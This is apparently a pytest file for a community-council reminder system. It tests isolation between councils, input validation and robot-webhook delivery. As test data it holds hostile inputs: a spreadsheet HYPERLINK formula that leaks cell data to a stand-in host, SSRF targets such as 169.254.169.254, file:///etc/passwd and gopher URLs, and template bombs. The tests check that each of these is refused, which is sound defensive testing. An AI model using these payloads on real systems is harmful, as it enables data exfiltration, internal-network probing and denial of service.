"""Nothing one council types stops another council's reminders, and input the sweep cannot work
with is refused when it is written. Each test is a finding of 2026-12-04 (issue 27)."""

from __future__ import annotations

import json
import time
from datetime import date

import pytest
from sqlalchemy import text
from sqlmodel import select

from cobuild.actions import items as it
from cobuild.actions.council import add_channel, set_template, update_settings
from cobuild.models import ContactChannel, Delivery, InvalidInput, Item, ItemSubmit, Notification
from cobuild.notifications.channels import Channels
from cobuild.notifications.dispatch import dispatch
from cobuild.notifications.rendering import RenderLimitExceeded, check_override, render
from cobuild.notifications.samples import COMMON, SAMPLES
from cobuild.sweep.run import sweep

from .conftest import World, at


@pytest.fixture
def two(session):
    """Two councils in one database, each with one published item falling due on 2026-04-30."""
    first = World(session)
    second = World(session, name="第二社区大党委", community_name="第二社区", secretary_name="赵书记")
    worlds = (first, second)
    for world in worlds:  # in step: moving the clock moves every council's cycle
        world.open_window()
    items = [world.submit("community") for world in worlds]
    for world in worlds:
        world.hold()
    for world, item in zip(worlds, items):
        world.accept(item)
        world.publish()
    return first, items[0], second, items[1]


def _messages(world, **where) -> list[Notification]:
    world.session.expire_all()
    query = select(Notification).where(Notification.council_id == world.council.id).order_by(Notification.id)
    for column, value in where.items():
        query = query.where(getattr(Notification, column) == value)
    return world.session.exec(query).all()


# a template that passes the trial render (its sample recipient is 王丽华) and fails for anyone else
FAILS_FOR_OTHERS = '{% if recipient == "王丽华" %}{{ item.title }}{% else %}{{ item.no_such_field }}{% endif %}'


def test_a_council_template_failing_for_real_recipients_falls_back_and_tells_the_secretary(two):
    first, item, second, other = two
    assert check_override("overdue", "text", FAILS_FOR_OTHERS, {**COMMON, **SAMPLES["overdue"]}) is None
    set_template(first.session, first.council, "overdue", "text", "zh", FAILS_FOR_OTHERS, by=first.secretary,
                 now=at("2026-01-02"))
    sweep(first.session, at("2026-05-06", 9))  # both items four working days overdue

    overdue = _messages(first, kind="overdue")
    assert overdue and all("逾期" in n.body_text and "no_such_field" not in n.body_text for n in overdue)
    (notice,) = _messages(first, kind="council_problem")
    assert notice.member_id == first.secretary.id
    assert "逾期提醒" in notice.body_text and "默认措辞" in notice.body_text and "no_such_field" in notice.body_text
    assert _messages(second, kind="overdue") and not _messages(second, kind="council_problem")
    # once a day: the next tick's failures tell no one again
    sweep(first.session, at("2026-05-06", 9, 5))
    assert len(_messages(first, kind="council_problem")) == 1


def test_a_council_whose_data_breaks_the_sweep_is_retried_while_the_others_are_reminded(two):
    first, item, second, other = two
    # a bad calendar stored before the settings were checked at the door
    first.session.execute(text("UPDATE council SET extra_holidays = :bad WHERE id = :id"),
                          {"bad": json.dumps(["not a date"]), "id": first.council.id})
    first.session.commit()
    first.session.expire_all()
    tick = at("2026-05-06", 9)
    sweep(first.session, tick)

    assert _messages(second, kind="overdue")  # the other council's reminders went out
    assert not _messages(first, kind="overdue")
    # the item's notice (the weekly digest, due this working morning, meets the same calendar: its own)
    (notice,) = [n for n in _messages(first, kind="council_problem") if item.number in n.body_text]
    assert "not a date" in notice.body_text
    retry_at = first.session.get(Item, item.id).next_reminder_at
    assert tick < retry_at <= at("2026-05-06", 9, 5)  # tried again next tick, not in this one


def test_a_template_that_loops_or_repeats_is_stopped_quickly_at_save_time_and_in_the_sweep():
    nested = "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}"
    huge = "{{ 'x' * 3000000000 }}"
    for source in (nested, huge):
        started = time.monotonic()
        assert check_override("overdue", "text", source, {**COMMON, **SAMPLES["overdue"]}) is not None
        with pytest.raises(RenderLimitExceeded):
            render("overdue", "zh", {**COMMON, **SAMPLES["overdue"]}, {"text": source})
        assert time.monotonic() - started < 3


@pytest.mark.parametrize("value", ["not a date", "2026-02-30", "9999-12-31", "2026-1-5"])
def test_a_holiday_that_is_not_a_real_date_is_refused_with_the_field_named(world, value):
    with pytest.raises(InvalidInput) as refused:
        update_settings(world.session, world.council, by=world.secretary, now=at("2026-01-02"),
                        extra_holidays=["2026-10-08", value])
    assert "额外休息日" in refused.value.message("zh") and "extra holidays" in refused.value.message("en")
    world.session.expire_all()
    assert world.council.extra_holidays == []


def test_real_holidays_are_kept_sorted_and_once(world):
    update_settings(world.session, world.council, by=world.secretary, now=at("2026-01-02"),
                    extra_holidays=["2026-10-09", "2026-10-08", "2026-10-09"])
    assert world.council.extra_holidays == ["2026-10-08", "2026-10-09"]


def test_a_deadline_years_away_is_refused_when_extended_and_when_assigned(world):
    item = world.published_item()
    with pytest.raises(InvalidInput) as refused:
        it.extend_deadline(world.session, item, date(9999, 12, 31), by=world.chair, now=at("2026-03-01"),
                           reason="typo")
    assert "超过 3 年" in refused.value.message("zh")
    assert world.reload(item).deadline == date(2026, 4, 30)
    it.extend_deadline(world.session, item, date(2027, 6, 30), by=world.chair, now=at("2026-03-02"), reason="工期")


@pytest.mark.parametrize("title", ["   ", "路灯\x00维修", "路灯\x1b[31m维修"])
def test_titles_of_blanks_or_control_characters_are_refused(title):
    from pydantic import ValidationError

    with pytest.raises(ValidationError):
        ItemSubmit(category="其他", title=title)


def test_formula_like_titles_stay_text_in_the_ledger(world, tmp_path):
    import zipfile

    from openpyxl import load_workbook

    from cobuild.reports.ledger import write_ledger

    formula = '=HYPERLINK("http://example.org/?leak="&A2,"x")'
    item = world.published_item(title=formula)
    path = tmp_path / "ledger.xlsx"
    write_ledger(world.session, world.council, at("2026-05-06"), path)
    sheet_xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula anywhere
    cell = next(c for row in load_workbook(path).active.iter_rows() for c in row if c.value == formula)
    assert cell.data_type == "s" and item.title == formula


@pytest.mark.parametrize("answer, sent", [
    ({"errcode": 0, "errmsg": "ok"}, True),
    ({"errcode": 93000, "errmsg": "invalid webhook url"}, False),
    ({"code": 19024, "msg": "Key Words Not Found"}, False),
])
def test_a_robot_that_refuses_in_its_answer_is_a_failed_attempt_not_a_sent_message(world, httpserver, answer, sent):
    """A local HTTP server stands in for the WeCom robot API (HTTP 200 either way)."""
    for row in world.session.exec(select(ContactChannel).where(ContactChannel.member_id == world.liaisons["power"].id)):
        world.session.delete(row)
    world.session.commit()
    add_channel(world.session, world.council, world.liaisons["power"], "wecom", "KEY-123", by=world.secretary,
                now=at("2026-01-02"))
    httpserver.expect_request("/cgi-bin/webhook/send", query_string="key=KEY-123").respond_with_json(answer)
    world.published_item()
    world.drop_handoffs()
    sweep(world.session, at("2026-04-21", 9))
    dispatch(world.session, at("2026-04-21", 9, 5),
             Channels(timeout=5, robot_urls={"wecom": httpserver.url_for("/cgi-bin/webhook/send?key={token}")}))
    delivery = world.session.exec(select(Delivery)).one()
    posted = json.loads(httpserver.log[0][0].get_data())
    assert posted["msgtype"] == "text" and "【共建事项提醒】" in posted["text"]["content"]
    if sent:
        assert delivery.status == "sent"
    else:
        assert delivery.status == "retry" and "refused" in delivery.last_error
        assert "KEY-123" not in delivery.last_error


@pytest.mark.parametrize("address", ["http://127.0.0.1:9/hook", "http://10.1.2.3/hook", "http://169.254.169.254/latest",
                                     "http://localhost:9/hook"])
def test_a_webhook_into_the_machines_own_network_is_refused_unless_allowed(world, monkeypatch, address):
    monkeypatch.setenv("COBUILD_ALLOW_PRIVATE_WEBHOOKS", "false")
    monkeypatch.setenv("COBUILD_DELIVERY", "live")  # the demo's tests leave "file" in the environment
    for row in world.session.exec(select(ContactChannel).where(ContactChannel.member_id == world.liaisons["power"].id)):
        world.session.delete(row)
    world.session.commit()
    add_channel(world.session, world.council, world.liaisons["power"], "webhook", address, by=world.secretary,
                now=at("2026-01-02"))
    world.published_item()
    world.drop_handoffs()
    sweep(world.session, at("2026-04-21", 9))
    dispatch(world.session, at("2026-04-21", 9, 5), Channels.from_settings())
    delivery = world.session.exec(select(Delivery)).one()
    assert delivery.status == "dead" and "private network" in delivery.last_error


@pytest.mark.parametrize("address", ["file:///etc/passwd", "gopher://127.0.0.1:25/x", "ftp://example.org/"])
def test_a_webhook_that_is_not_http_is_refused_when_added(world, address):
    with pytest.raises(InvalidInput):
        add_channel(world.session, world.council, world.liaisons["power"], "webhook", address, by=world.secretary,
                    now=at("2026-01-02"))


def test_a_cycle_step_that_fails_for_one_council_does_not_stop_the_others(session, monkeypatch):
    from cobuild.actions import conferences as conference_actions
    from cobuild.actions.cycles import conference_cycle
    from cobuild.models import Conference

    first = World(session)
    second = World(session, name="第二社区大党委", community_name="第二社区", secretary_name="赵书记")
    opened = conference_actions.open_window

    def broken_for_the_first(session, conference, **kwargs):
        if conference.council_id == first.council.id:
            raise ValueError("a council's data the window cannot work with")
        return opened(session, conference, **kwargs)

    monkeypatch.setattr(conference_actions, "open_window", broken_for_the_first)
    result = conference_cycle(session, first.conference().window_opens_at)
    assert result["windows_opened"] == 1 and "cannot work with" in " ".join(result["errors"])
    session.expire_all()
    assert session.get(Conference, second.conference().id).status == "collecting"
    assert session.get(Conference, first.conference().id).status == "planned"  # tried again next tick


@pytest.mark.parametrize("kind, path, answer", [
    ("wecom", "/cgi-bin/webhook/send", {"errcode": 0, "errmsg": "ok"}),
    ("dingtalk", "/robot/send", {"errcode": 0, "errmsg": "ok"}),
    ("feishu", "/open-apis/bot/v2/hook/KEY-123", {"code": 0, "msg": "success"}),
])
def test_with_a_public_address_each_robot_gets_its_own_card_with_a_button(world, httpserver, monkeypatch, kind, path, answer):
    """WeCom markdown, a DingTalk actionCard, a Feishu interactive card: the message and a 查看详情
    button to the item's page; a local HTTP server stands in for each robot API."""
    monkeypatch.setenv("COBUILD_PUBLIC_URL", "https://cobuild.example.org")
    for row in world.session.exec(select(ContactChannel).where(ContactChannel.member_id == world.liaisons["power"].id)):
        world.session.delete(row)
    world.session.commit()
    add_channel(world.session, world.council, world.liaisons["power"], kind, "KEY-123", by=world.secretary,
                now=at("2026-01-02"))
    httpserver.expect_request(path).respond_with_json(answer)
    item = world.published_item()
    world.drop_handoffs()
    sweep(world.session, at("2026-04-21", 9))
    template = {"wecom": "/cgi-bin/webhook/send?key={token}", "dingtalk": "/robot/send?access_token={token}",
                "feishu": "/open-apis/bot/v2/hook/{token}"}[kind]
    dispatch(world.session, at("2026-04-21", 9, 5), Channels(timeout=5, robot_urls={kind: httpserver.url_for(template)}))
    assert world.session.exec(select(Delivery)).one().status == "sent"
    posted = json.loads(httpserver.log[0][0].get_data())
    link = f"https://cobuild.example.org/c/{world.council.id}/items/{item.id}"
    if kind == "wecom":
        assert posted["msgtype"] == "markdown" and f"[查看详情]({link})" in posted["markdown"]["content"]
    elif kind == "dingtalk":
        assert posted["msgtype"] == "actionCard" and posted["actionCard"]["singleURL"] == link
        assert item.number in posted["actionCard"]["title"]
    else:
        assert posted["msg_type"] == "interactive"
        (button,) = posted["card"]["elements"][1]["actions"]
        assert button["url"] == link and button["text"]["content"] == "查看详情"
